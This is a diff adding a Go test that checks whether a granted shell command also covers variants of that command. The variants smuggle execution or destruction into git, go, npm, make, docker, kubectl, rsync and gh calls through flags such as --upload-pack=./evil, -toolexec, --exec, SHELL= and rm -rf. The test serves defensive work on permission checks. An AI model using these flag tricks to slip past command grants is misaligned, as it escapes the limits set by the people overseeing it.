@@ -105,6 +105,62 @@ func TestCovers(t *testing.T) {
 	}
 }
 
+// TestNoWayOut: what begins as a given command does and then does something
+// else is not covered by it; what merely goes on is.
+func TestNoWayOut(t *testing.T) {
+	for _, c := range []struct {
+		given, tried string
+		want         bool
+	}{
+		{"git fetch origin", "git fetch --upload-pack=./evil origin", false},
+		{"git fetch origin", "git fetch ext::./evil", false},
+		{"git push origin main", "git push --receive-pack ./evil origin", false},
+		{"git push origin main", "git push -u origin main", true},
+		{"git grep foo", "git grep -O./evil foo", false},
+		{"git grep foo", "git grep --open-files-in-pager=./evil foo", false},
+		{"git grep foo", "git grep -n bar", true},
+		{"git rebase main", "git rebase -x ./evil main", false},
+		{"git rebase main", "git rebase --exec ./evil main", false},
+		{"git log", "git log --output=main.go", false},
+		{"git log", "git log --oneline -5", true},
+		{"git diff", "git diff --ext-diff", false},
+		{"git commit -m x", "git commit --amend --no-edit", true},
+		{"git bisect good", "git bisect run ./evil", false},
+		{"git submodule status", "git submodule foreach ./evil", false},
+		{"go run ./cmd/app", "go run evil.example/x@latest", false},
+		{"go run ./cmd/app", "go run ./cmd/app", true},
+		{"go test ./...", "go test -exec ./evil ./...", false},
+		{"go test ./...", "go test -toolexec=./evil ./...", false},
+		{"go test ./...", "go test -run TestX -count=1 ./...", true},
+		{"go env GOPATH", "go env -w GOFLAGS=-toolexec=./evil", false},
+		{"npm exec tsc", "npm exec tsc evil", false},
+		{"npm run build", "npm run build -- --watch", true},
+		{"npm test", "npm test --script-shell=./evil", false},
+		{"make check", "make check SHELL=./evil", false},
+		{"make check", "make check -j4", true},
+		{"docker exec web ls", "docker exec web sh -c x", false},
+		{"docker run alpine", "docker run alpine rm -rf x", false},
+		{"docker compose exec web", "docker compose exec web sh", false},
+		{"docker compose up", "docker compose up -d", true},
+		{"kubectl exec pod", "kubectl exec pod -- rm x", false},
+		{"kubectl get pods", "kubectl get pods -o wide", true},
+		{"gh api user", "gh api user -X DELETE", false},
+		{"gh pr list", "gh pr list --limit 5", true},
+		{"cargo test", "cargo test --config x", false},
+		{"cargo test", "cargo test --release", true},
+		{"hyperfine ls", "hyperfine ls evil", false},
+		{"rsync a b", "rsync a b -e ./evil", false},
+		{"cp a b", "cp c main.go", false},
+		{"mv a b", "mv c main.go", false},
+		{"uniq a b", "uniq c main.go", false},
+		{"cat a", "cat b", true},
+	} {
+		if got := grant.Covers(grant.Narrowest(bash(c.given)), bash(c.tried)); got != c.want {
+			t.Errorf("%q given, %q: covered %t", c.given, c.tried, got)
+		}
+	}
+}
+
 func given(id string, n grant.Need) grant.Grant {
 	return grant.Grant{ID: grant.ID(id), Session: "s", Rules: grant.Narrowest(n), At: t0, ExpiresAt: t0.Add(grant.For)}
 }
